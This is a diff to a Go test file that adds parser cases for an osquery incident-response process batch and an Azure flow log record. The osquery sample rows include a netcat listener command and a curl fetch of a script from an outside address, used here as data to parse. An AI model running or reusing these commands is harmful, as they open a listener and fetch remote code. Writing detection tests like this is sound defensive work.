@@ -60,6 +60,23 @@ func TestVendorContainersSplitPerEvent(t *testing.T) {
 				`{"type":"user","user":"alice","tty":"pts/1","host":"198.51.100.24","time":"1778673100","pid":"22002"}],"action":"snapshot"}`,
 			[]want{{"osquery.result", map[string]string{"user.name": "root", "source.ip": "198.51.100.23", "host.name": "lnx-web-03"}},
 				{"osquery.result", map[string]string{"user.name": "alice", "source.ip": "198.51.100.24", "host.name": "lnx-web-03"}}}},
+		{"osquery batch (event format batch): diffResults with added and removed rows",
+			`{"diffResults":{"added":[` +
+				`{"pid":"31337","name":"nc","path":"/usr/bin/nc","cmdline":"nc -lvp 4444","parent":"1200","uid":"1000"},` +
+				`{"pid":"31338","name":"curl","path":"/usr/bin/curl","cmdline":"curl -s http://203.0.113.5/x.sh","parent":"1200","uid":"1000"}],` +
+				`"removed":[{"pid":"22001","name":"sshd","path":"/usr/sbin/sshd","cmdline":"sshd: alice","parent":"1","uid":"0"}]},` +
+				`"name":"pack_incident-response_processes","hostIdentifier":"lnx-web-03","calendarTime":"Wed May 13 12:02:00 2026 UTC","unixTime":1778673720,"epoch":0,"counter":4,"numerics":false,"decorations":{"host_uuid":"u-1","username":"alice"}}`,
+			[]want{{"osquery.result", map[string]string{"process.name": "nc", "process.pid": "31337", "osquery.action": "added", "host.name": "lnx-web-03", "@timestamp": "2026-05-13T12:02:00Z"}},
+				{"osquery.result", map[string]string{"process.name": "curl", "process.command_line": "curl -s http://203.0.113.5/x.sh", "osquery.action": "added"}},
+				{"osquery.result", map[string]string{"process.name": "sshd", "process.pid": "22001", "osquery.action": "removed", "host.id": "u-1"}}}},
+		{"Azure virtual network flow log record (flowRecords) with three tuples in two flow groups",
+			`{"records":[{"time":"2025-03-02T08:00:05.1230000Z","flowLogGUID":"66aa66aa-bbbb-cccc-dddd-111122223333","macAddress":"00224871C205","category":"FlowLogFlowEvent","flowLogResourceID":"/SUBSCRIPTIONS/S1/RESOURCEGROUPS/NETWORKWATCHERRG/PROVIDERS/MICROSOFT.NETWORK/NETWORKWATCHERS/NETWORKWATCHER_WESTEUROPE/FLOWLOGS/VNETFLOWLOG-PROD","targetResourceID":"/subscriptions/s1/resourceGroups/rg-prod/providers/Microsoft.Network/virtualNetworks/vnet-prod","operationName":"FlowLogFlowEvent","flowLogVersion":4,"flowRecords":{"flows":[` +
+				`{"aclID":"9a8b7c6d-0000-1111-2222-333344445555","flowGroups":[` +
+				`{"rule":"DefaultRule_AllowInternetOutBound","flowTuples":["1740902403599,10.2.0.6,192.0.2.180,23956,443,6,O,B,NX,0,0,0,0","1740902403612,10.2.0.6,192.0.2.181,23957,443,6,O,E,NX,7,1508,9,4612"]},` +
+				`{"rule":"BlockHighRiskTCPPortsFromInternet","flowTuples":["1740902460000,203.0.113.99,10.2.0.7,61000,445,6,I,D,NX,0,0,0,0"]}]}]}}]}`,
+			[]want{{"azure.flowlog", map[string]string{"source.ip": "10.2.0.6", "destination.ip": "192.0.2.180", "destination.port": "443", "rule.name": "DefaultRule_AllowInternetOutBound"}},
+				{"azure.flowlog", map[string]string{"destination.ip": "192.0.2.181", "source.port": "23957", "rule.name": "DefaultRule_AllowInternetOutBound"}},
+				{"azure.flowlog", map[string]string{"source.ip": "203.0.113.99", "destination.port": "445", "rule.name": "BlockHighRiskTCPPortsFromInternet"}}}},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
